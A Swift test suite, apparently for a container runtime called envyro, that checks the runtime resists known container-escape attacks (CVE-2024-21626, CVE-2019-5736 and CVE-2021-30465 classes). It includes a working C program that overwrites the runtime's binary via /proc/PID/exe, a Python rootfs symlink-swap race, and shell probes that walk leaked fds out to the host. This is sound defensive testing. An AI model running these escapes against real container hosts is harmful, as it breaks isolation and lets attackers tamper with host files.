import Foundation
import Testing

/// A small static C program, compiled for the test (gcc -static): the attacker's tools.
enum AttackProgram {
    /// Compiles `source` to `output` (mode 0755); throws a skip reason when gcc can't.
    static func compile(_ source: String, to output: URL) throws {
        let src = output.deletingLastPathComponent().appendingPathComponent("\(output.lastPathComponent).c")
        try source.write(to: src, atomically: false, encoding: .utf8)
        defer { try? FileManager.default.removeItem(at: src) }
        let cc = try Harness.run(["/usr/bin/gcc", "-static", "-O1", "-o", output.path, src.path])
        guard cc.status == 0 else { throw Harness.SkipInfo("gcc -static failed: \(cc.stderr)") }
        _ = try Harness.run(["/bin/chmod", "0755", output.path])
    }

    /// SHA-256 of a file, to show a binary is unchanged.
    static func digest(_ path: String) throws -> String {
        try Harness.run(["/usr/bin/sha256sum", path]).stdout.split(separator: " ").first.map(String.init) ?? ""
    }
}

extension Hostile {
/// Host escapes (critical): the working directory through a leaked fd, overwriting the runtime
/// through /proc/self/exe, the held container's dumpable image, and a rootfs swapped for a
/// symlink between check and mount.
@Suite("host escapes")
struct Escapes {
    /// CVE-2024-21626 class. The helper's fds (cgroup directories, the audit log, the policy) were
    /// still open when the trampoline changed to the working directory; /proc/self/fd/N then led
    /// out of the container, as uid 0. Every fd number a helper may have held is tried, with
    /// limits (so the helper holds cgroup directories), as root and as an ordinary user.
    @Test("envyro run --cwd /proc/self/fd/N never starts the workload outside the container's root (CVE-2024-21626)",
          arguments: Hostile.identities)
    func runCwdThroughLeakedFD(who: Harness.Identity) throws {
        var escaped: [String] = []
        for n in 3...24 {
            let r = try Harness.envyro(["run", "--memory", "64M", "--pids-limit", "32", "--cwd", "/proc/self/fd/\(n)", "--",
                                        "sh", "-c", "cd -P ../../../../..; ls"], as: who)
            if r.status != 125 { escaped.append("fd \(n): status \(r.status), / has \(r.stdout.split(separator: "\n"))") }
            else { #expect(r.stderr.contains("working directory"), "fd \(n): \(r.stderr)") }
        }
        #expect(escaped.isEmpty, "the workload started in a leaked directory: \(escaped)")
        // /proc/1/cwd (the container's own first process) is a magic link too.
        let r = try Harness.envyro(["run", "--cwd", "/proc/1/cwd", "--", "pwd"], as: who)
        #expect(r.status == 125, "\(r.stdout) \(r.stderr)")
        // An ordinary --cwd still works, through a symlink inside the root as well.
        let ok = try Harness.envyro(["run", "--cwd", "/usr/bin", "--", "pwd"], as: who)
        #expect(ok.stdout == "/usr/bin\n", "\(ok.stderr)")
    }

    /// The same through the OCI commands: a bundle's process.cwd and `exec --cwd`.
    @Test("an OCI bundle's process.cwd and exec --cwd of /proc/self/fd/N are refused (CVE-2024-21626)",
          .enabled(if: Harness.isRoot && OCIBundle.busyboxAvailable, "needs root and busybox"))
    func ociCwdThroughLeakedFD() throws {
        let b = try OCIBundle("cwd-escape")
        defer { b.cleanup() }
        // Limits: the helper then holds the container's cgroup directories while it builds it.
        var linux = b.linux
        linux["resources"] = ["memory": ["limit": 64 << 20], "pids": ["limit": 64]]
        b.linux = linux
        var escaped: [String] = []
        for n in 3...24 {
            b.process["cwd"] = "/proc/self/fd/\(n)"
            b.process["args"] = ["sh", "-c", "cd -P ../../../../..; ls"]
            try b.write()
            let r = try b.envyro(["run", "--bundle", b.bundle.path, b.newID()])
            if r.status == 0 { escaped.append("cwd fd \(n): / has \(r.stdout.split(separator: "\n"))") }
        }
        b.process["cwd"] = "/"
        b.process["args"] = ["sleep", "60", "envyro-leak-marker"]
        try b.write()
        let id = b.newID()
        try #require(try b.envyro(["run", "--detach", "--bundle", b.bundle.path, id]).status == 0)
        for n in 3...20 {
            let r = try b.envyro(["exec", "--cwd", "/proc/self/fd/\(n)", id, "sh", "-c", "cd -P ../../../../..; ls"])
            if r.status == 0 { escaped.append("exec --cwd fd \(n): / has \(r.stdout.split(separator: "\n"))") }
        }
        #expect(escaped.isEmpty, "a process started in a leaked directory: \(escaped)")
    }

    /// CVE-2019-5736 class, performed as runc's regression test does: a process in the container
    /// waits for a process running the runtime's binary, holds /proc/PID/exe by an O_PATH fd,
    /// and reopens it for writing once that process is gone. `envyro exec` of a program whose
    /// interpreter is /proc/self/exe runs the helper's own image in the container.
    @Test("a container can't overwrite envyro-nshelper through /proc/PID/exe when exec runs #!/proc/self/exe (CVE-2019-5736)",
          .enabled(if: Harness.isRoot && OCIBundle.busyboxAvailable, "needs root and busybox"))
    func overwriteRuntimeThroughProcExe() throws {
        let b = try OCIBundle("exe-overwrite")
        defer { b.cleanup() }
        try AttackProgram.compile(Self.grabber, to: b.rootfs.appendingPathComponent("grab"))
        try "#!/proc/self/exe\n".write(to: b.rootfs.appendingPathComponent("evil"), atomically: false, encoding: .utf8)
        _ = try Harness.run(["/bin/chmod", "0755", b.rootfs.appendingPathComponent("evil").path])
        try FileManager.default.createDirectory(at: b.rootfs.appendingPathComponent("out"), withIntermediateDirectories: true)
        b.config["root"] = ["path": "rootfs", "readonly": false]
        // A debug build's helper is linked dynamically: give the container what it loads, so
        // that /evil really runs it there (a release build is static and needs none of this).
        var mounts = b.config["mounts"] as? [[String: Any]] ?? []
        for dir in ["/lib", "/lib64", "/usr/lib", "/opt/swift/usr/lib"] where FileManager.default.fileExists(atPath: dir) {
            mounts.append(["destination": dir, "type": "bind", "source": dir, "options": ["rbind", "ro"]])
        }
        b.config["mounts"] = mounts
        b.process["args"] = ["/grab", "envyro-leak-marker"]
        try b.write()
        let helper = Harness.installRoot.appendingPathComponent("bin/envyro-nshelper").path
        let before = try AttackProgram.digest(helper)
        let id = b.newID()
        try #require(try b.envyro(["run", "--detach", "--bundle", b.bundle.path, id]).status == 0)
        let report = b.rootfs.appendingPathComponent("out/report").path
        // The grabber catches the helper's image within a few tries; each exec runs it once.
        for _ in 0..<30 {
            _ = try b.envyro(["exec", id, "/evil"])
            if FileManager.default.fileExists(atPath: report) { break }
        }
        OCIRunner.wait(10) { ((try? String(contentsOfFile: report, encoding: .utf8)) ?? "").contains("done") }
        let text = (try? String(contentsOfFile: report, encoding: .utf8)) ?? ""
        #expect(text.contains("caught"), "the attack was not performed (no helper image seen in the container): \(text)")
        #expect(!text.contains("WROTE"), "the container wrote the host's helper binary: \(text)")
        #expect(try AttackProgram.digest(helper) == before, "envyro-nshelper on the host changed")
    }

    /// The grabber: finds a process whose /proc/PID/exe is neither itself nor busybox, holds it
    /// by O_PATH, and tries to reopen it for writing for 3 s (while it runs: ETXTBSY; after:
    /// EROFS for a read-only bind, EPERM for a sealed copy, EACCES for root's installed file).
    static let grabber = """
        #define _GNU_SOURCE
        #include <dirent.h>
        #include <errno.h>
        #include <fcntl.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/stat.h>
        #include <time.h>
        #include <unistd.h>
        int main(void) {
            struct stat self, bb, st;
            stat("/proc/self/exe", &self); stat("/bin/busybox", &bb);
            for (;;) {
                DIR *d = opendir("/proc"); struct dirent *e; int fd = -1;
                while (d && (e = readdir(d))) {
                    char p[64]; if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
                    snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
                    int f = open(p, O_PATH | O_CLOEXEC);
                    if (f < 0) continue;
                    if (fstat(f, &st) == 0 && S_ISREG(st.st_mode) && st.st_ino != self.st_ino && st.st_ino != bb.st_ino) { fd = f; break; }
                    close(f);
                }
                if (d) closedir(d);
                if (fd < 0) continue;
                FILE *out = fopen("/out/report", "w");
                fprintf(out, "caught\\n"); fflush(out);
                char p[64]; snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
                int last = 0;
                for (int i = 0; i < 3000; i++) {
                    int w = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
                    if (w >= 0) {
                        ssize_t n = write(w, "#!/bin/sh\\necho pwned\\n", 22);
                        fprintf(out, n > 0 ? "WROTE %zd bytes\\n" : "opened for writing, write failed %d\\n", n > 0 ? n : errno);
                        close(w); break;
                    }
                    last = errno; usleep(1000);
                }
                fprintf(out, "last error %d (%s)\\ndone\\n", last, strerror(last));
                fclose(out);
                pause();
            }
        }
        """

    /// The same mechanism from the host's side, on every path a root-run helper takes (embedded
    /// run, daemon, OCI): root in a container is root on the host for root's single-id map, so
    /// what host root can do with the helper's /proc/PID/exe once it has exited is the bar.
    @Test("once root's helper has exited, its /proc/PID/exe held by O_PATH can't be reopened for writing (CVE-2019-5736)",
          .enabled(if: Harness.isRoot, "needs root"))
    func rootHelperBinaryIsReadOnly() throws {
        let dir = Harness.scratchDirectory("exe-ro")
        defer { try? FileManager.default.removeItem(at: dir) }
        let helper = Harness.installRoot.appendingPathComponent("bin/envyro-nshelper").path
        let before = try AttackProgram.digest(helper)
        // python holds the helper's exe by O_PATH while `envyro run` is alive, then tries.
        let script = """
            import os, subprocess, sys, time
            p = subprocess.Popen([sys.argv[1], "run", "--", "sleep", "1"])
            fd, deadline = -1, time.time() + 5
            while fd < 0 and time.time() < deadline:
                for pid in os.listdir("/proc"):
                    try:
                        if pid.isdigit() and os.readlink(f"/proc/{pid}/exe").endswith("envyro-nshelper") and \
                           int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1]) == p.pid:
                            fd = os.open(f"/proc/{pid}/exe", os.O_PATH); break
                    except OSError: pass
            p.wait()
            time.sleep(0.2)
            if fd < 0: print("no helper seen"); sys.exit(0)
            try:
                w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_APPEND); print("WRITABLE")
            except OSError as e: print("refused", e.errno, e.strerror)
            """
        let r = try Harness.run(["/usr/bin/python3", "-c", script, Harness.envyro])
        #expect(r.stdout.hasPrefix("refused"), "\(r.stdout) \(r.stderr)")
        #expect(try AttackProgram.digest(helper) == before)
    }

    /// A helper its own user can write (an ordinary user's own build) runs from a sealed memfd
    /// copy: nothing of the user's files is ever a container's /proc/PID/exe.
    @Test("an ordinary user's own envyro-nshelper runs from a sealed copy that can't be written (CVE-2019-5736)",
          .enabled(if: Harness.isRoot && Harness.ordinaryUser != nil, "needs root and an ordinary user"))
    func ownBuildRunsSealed() throws {
        let dir = Harness.scratchDirectory("own-build")
        defer { try? FileManager.default.removeItem(at: dir) }
        let bin = dir.appendingPathComponent("bin")
        try FileManager.default.createDirectory(at: bin, withIntermediateDirectories: true)
        for name in ["envyro", "envyro-cli", "envyro-nshelper"] {
            try FileManager.default.copyItem(at: Harness.installRoot.appendingPathComponent("bin/\(name)"), to: bin.appendingPathComponent(name))
        }
        try FileManager.default.copyItem(at: Harness.installRoot.appendingPathComponent("policy"), to: dir.appendingPathComponent("policy"))
        _ = try Harness.run(["/bin/chown", "-R", Harness.ordinaryUser!, dir.path])
        let envyro = bin.appendingPathComponent("envyro").path
        let script = """
            import os, subprocess, sys, time
            p = subprocess.Popen(["/usr/sbin/runuser", "-u", sys.argv[2], "--", sys.argv[1], "run", "--", "sleep", "1"])
            def ancestors(pid):
                while pid > 1:
                    yield pid
                    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            exe, fd, deadline = "", -1, time.time() + 5
            while fd < 0 and time.time() < deadline:
                for pid in os.listdir("/proc"):
                    try:
                        if pid.isdigit() and "--policy" in open(f"/proc/{pid}/cmdline").read() and p.pid in ancestors(int(pid)):
                            exe = os.readlink(f"/proc/{pid}/exe"); fd = os.open(f"/proc/{pid}/exe", os.O_PATH); break
                    except OSError: pass
            p.wait()
            time.sleep(0.2)
            print("exe", exe)
            if fd < 0: sys.exit(0)
            try:
                w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
                try: os.write(w, b"x"); print("WROTE")
                except OSError as e: print("refused", e.errno, e.strerror)
            except OSError as e: print("refused", e.errno, e.strerror)
            """
        let r = try Harness.run(["/usr/bin/python3", "-c", script, envyro, Harness.ordinaryUser!])
        #expect(r.stdout.contains("exe /memfd:envyro-nshelper"), "\(r.stdout) \(r.stderr)")
        #expect(r.stdout.contains("refused"), "\(r.stdout) \(r.stderr)")
        // And it runs containers as before.
        let ok = try Harness.run(["/usr/sbin/runuser", "-u", Harness.ordinaryUser!, "--", envyro, "run", "--", "echo", "sealed"])
        #expect(ok.stdout == "sealed\n", "\(ok.stderr)")
    }

    /// The held OCI container (created, not started) was a dumpable copy of the helper holding
    /// host fds: a second container joining its pid namespace opened /proc/PID/fd/N (the host
    /// audit log, cgroup directories) and /proc/PID/exe (the host binary).
    @Test("a container joining a held container's pid namespace can't reach its fds or binary",
          .enabled(if: Harness.isRoot && OCIBundle.busyboxAvailable, "needs root and busybox"))
    func heldContainerIsClosed() throws {
        // A: a pod's first container, running. H: created (held, not started) in A's pid
        // namespace, so it is pid 2 there. B: the attacker, joining A's pid namespace too.
        let a = try OCIBundle("pod")
        defer { a.cleanup() }
        let podID = a.newID()
        try #require(try a.envyro(["run", "--detach", "--bundle", a.bundle.path, podID]).status == 0)
        let podPID = try a.pid(podID)
        func joiningPod(_ b: OCIBundle) throws {
            var linux = b.linux
            linux["namespaces"] = (linux["namespaces"] as? [[String: Any]] ?? []).map { ns in
                var ns = ns
                if ns["type"] as? String == "pid" { ns["path"] = "/proc/\(podPID)/ns/pid" }
                return ns
            }
            b.linux = linux
            try b.write()
        }
        let h = try OCIBundle("held")
        defer { h.cleanup() }
        try joiningPod(h)
        let heldID = h.newID()
        let c = try h.envyro(["create", "--bundle", h.bundle.path, heldID])
        try #require(c.status == 0, "create: \(c.stderr)")
        let pid = try h.pid(heldID)
        // Its pid in the pod's namespace (the last NSpid field).
        let nsPID = ((try? String(contentsOfFile: "/proc/\(pid)/status", encoding: .utf8)) ?? "")
            .split(separator: "\n").first { $0.hasPrefix("NSpid:") }?.split(separator: "\t").last.map(String.init) ?? "2"
        let probe = """
            for p in /proc/\(nsPID); do
              [ -d $p ] || echo "MISSING $p"
              for f in $p/fd/*; do t=$(readlink $f 2>/dev/null) && echo "FD $f -> $t"; done
              cat $p/exe >/dev/null 2>&1 && echo "EXE readable $p"
              (echo x >> $p/exe) 2>/dev/null && echo "EXE writable $p"
              for f in $p/fd/*; do (cd -P $f/../../../.. 2>/dev/null && echo "CD $f -> $(ls / | tr '\\n' ' ')"); done
            done
            echo probed
            """
        let b = try OCIBundle("joiner", args: ["sh", "-c", probe])
        defer { b.cleanup() }
        try joiningPod(b)
        let r = try b.envyro(["run", "--bundle", b.bundle.path, b.newID()])
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout.hasSuffix("probed\n"), "\(r.stdout)")
        let leaks = r.stdout.split(separator: "\n").filter { $0.hasPrefix("FD") || $0.hasPrefix("EXE") || $0.hasPrefix("CD") || $0.hasPrefix("MISSING") }
        #expect(leaks.isEmpty, "the held container leaked: \(leaks)")
        // Seen from the host: what the held process still holds is its stdio (and the copies it
        // was given them as), pipes and sockets: no directory, no host file of the helper's.
        let fm = FileManager.default
        let stdio = Set((0...2).compactMap { try? fm.destinationOfSymbolicLink(atPath: "/proc/\(pid)/fd/\($0)") })
        let held = ((try? fm.contentsOfDirectory(atPath: "/proc/\(pid)/fd")) ?? []).compactMap { try? fm.destinationOfSymbolicLink(atPath: "/proc/\(pid)/fd/\($0)") }
        #expect(!held.isEmpty)
        let hostFiles = held.filter { $0.hasPrefix("/") && !stdio.contains($0) }
        #expect(hostFiles.isEmpty, "the held process holds host files: \(hostFiles)")
    }

    /// CVE-2021-30465 class on the `--rootfs` path: the rootfs lives in a directory another user
    /// can write, who swaps it for a symlink to a host directory in a tight loop while root runs
    /// containers from it. The container must see the real rootfs or fail, never the host's.
    @Test("a rootfs swapped for a symlink while root starts containers never gives the container a host directory (CVE-2021-30465)",
          .enabled(if: Harness.isRoot && Harness.ordinaryUser != nil, "needs root and an ordinary user"))
    func rootfsSymlinkSwap() throws {
        let root = try StaticProbe.rootfs()
        let scratch = root.deletingLastPathComponent()
        defer { try? FileManager.default.removeItem(at: scratch) }
        let shared = scratch.appendingPathComponent("shared")
        try FileManager.default.createDirectory(at: shared, withIntermediateDirectories: true)
        try FileManager.default.moveItem(at: root, to: shared.appendingPathComponent("rootfs"))
        // The host directory the attacker wants root's container to get: it has a probe too,
        // and a marker no rootfs has.
        let host = scratch.appendingPathComponent("host-only")
        try FileManager.default.createDirectory(at: host.appendingPathComponent("tmp"), withIntermediateDirectories: true)
        try FileManager.default.copyItem(at: shared.appendingPathComponent("rootfs/probe"), to: host.appendingPathComponent("probe"))
        FileManager.default.createFile(atPath: host.appendingPathComponent("HOST-ONLY-MARKER").path, contents: nil)
        _ = try Harness.run(["/bin/chmod", "-R", "go-w", host.path])
        _ = try Harness.run(["/bin/chown", Harness.ordinaryUser!, shared.path])
        let swapper = """
            import os, sys, time
            d = sys.argv[1]; end = time.time() + float(sys.argv[2])
            while time.time() < end:
                try:
                    os.rename(d + "/rootfs", d + "/real"); os.symlink(sys.argv[3], d + "/rootfs")
                    time.sleep(0.001)
                    os.unlink(d + "/rootfs"); os.rename(d + "/real", d + "/rootfs")
                    time.sleep(0.003)
                except OSError: pass
            """
        let attacker = Process()
        attacker.executableURL = URL(fileURLWithPath: "/usr/sbin/runuser")
        attacker.arguments = ["-u", Harness.ordinaryUser!, "--", "/usr/bin/python3", "-c", swapper, shared.path, "8", host.path]
        try attacker.run()
        var hostSeen = 0, ran = 0, refused = 0
        let deadline = Date().addingTimeInterval(7)
        while Date() < deadline {
            let r = try Harness.envyro(["run", "--rootfs", shared.appendingPathComponent("rootfs").path, "--", "/probe"])
            if r.stdout.contains("HOST-ONLY-MARKER") { hostSeen += 1 }
            if r.status == 0 { ran += 1 } else { refused += 1 }
        }
        attacker.waitUntilExit()
        #expect(hostSeen == 0, "root's container got the attacker's chosen host directory \(hostSeen) times (\(ran) ran, \(refused) refused)")
        #expect(ran > 0, "no run succeeded at all (\(refused) refused)")
    }
    /// A file system the host mounted beneath a directory `envyro run` binds into its default
    /// root (a separate /usr/local, a container host's /etc/resolv.conf) came in with the
    /// recursive bind, and only the top of each bind was made read-only: for a root caller the
    /// container's root is the host's, so the workload wrote the host's root-owned files there.
    /// The whole bound tree is read-only now (mount_setattr AT_RECURSIVE).
    @Test("a file system mounted beneath a host directory envyro run binds (/usr/local here) is read-only in root's container, default and strict",
          .enabled(if: Harness.isRoot, "needs root: the test mounts a tmpfs under /usr/local"))
    func hostSubmountIsReadOnly() throws {
        let dir = "/usr/local/envyro-hostile-submount-\(getpid())"
        _ = try Harness.run(["/bin/mkdir", "-p", dir])
        let mounted = try Harness.run(["/bin/mount", "-t", "tmpfs", "-o", "size=64k,mode=0755", "envyro-test", dir])
        defer {
            _ = try? Harness.run(["/bin/umount", dir])
            _ = try? Harness.run(["/bin/rmdir", dir])
        }
        try #require(mounted.status == 0, "mount: \(mounted.stderr)")
        let file = dir + "/host-file"
        try "host\n".write(toFile: file, atomically: false, encoding: .utf8)
        _ = try Harness.run(["/bin/chmod", "0644", file])
        for policy in ["default", "strict"] {
            let r = try Harness.envyro(["run", "--policy", policy, "--", "sh", "-c",
                                        "echo pwned > \(file); touch \(dir)/planted; grep ' \(dir) ' /proc/self/mountinfo"])
            #expect(r.stdout.contains(" \(dir) ro,"), "\(policy): the submount is in the container, read-only: \(r.stdout) \(r.stderr)")
            #expect(r.stderr.contains("Read-only file system"), "\(policy): \(r.stderr)")
            #expect(try String(contentsOfFile: file, encoding: .utf8) == "host\n", "\(policy): the container wrote the host's file")
            #expect(!FileManager.default.fileExists(atPath: dir + "/planted"), "\(policy): the container made a file on the host")
        }
    }

    /// The same through `--rootfs DIR` (read-only unless --rootfs-rw): a file system mounted
    /// beneath DIR came in writable with the rootfs's recursive clone.
    @Test("a file system mounted beneath a --rootfs directory is read-only in the container unless --rootfs-rw",
          .enabled(if: Harness.isRoot && FileManager.default.fileExists(atPath: "/usr/bin/busybox"), "needs root and busybox-static"))
    func rootfsSubmountIsReadOnly() throws {
        let root = Harness.scratchDirectory("rootfs-submount").appendingPathComponent("root")
        defer { try? FileManager.default.removeItem(at: root.deletingLastPathComponent()) }
        for d in ["bin", "tmp", "data"] { try FileManager.default.createDirectory(at: root.appendingPathComponent(d), withIntermediateDirectories: true) }
        try FileManager.default.copyItem(atPath: "/usr/bin/busybox", toPath: root.appendingPathComponent("bin/busybox").path)
        let data = root.appendingPathComponent("data").path
        let mounted = try Harness.run(["/bin/mount", "-t", "tmpfs", "-o", "size=64k,mode=0755", "envyro-test", data])
        defer { _ = try? Harness.run(["/bin/umount", data]) }
        try #require(mounted.status == 0, "mount: \(mounted.stderr)")
        try "host\n".write(toFile: data + "/f", atomically: false, encoding: .utf8)
        let write = ["--", "/bin/busybox", "sh", "-c", "echo pwned > /data/f; echo tmp > /tmp/t && echo tmp-writable"]
        let ro = try Harness.envyro(["run", "--rootfs", root.path] + write)
        #expect(ro.stderr.contains("Read-only file system") && ro.stdout.contains("tmp-writable"), "\(ro.stdout) \(ro.stderr)")
        #expect(try String(contentsOfFile: data + "/f", encoding: .utf8) == "host\n", "a read-only rootfs's submount was written")
        let rw = try Harness.envyro(["run", "--rootfs", root.path, "--rootfs-rw"] + write)
        let written = try String(contentsOfFile: data + "/f", encoding: .utf8)
        #expect(rw.status == 0 && written == "pwned\n", "--rootfs-rw writes it: \(rw.stderr)")
    }
}
}
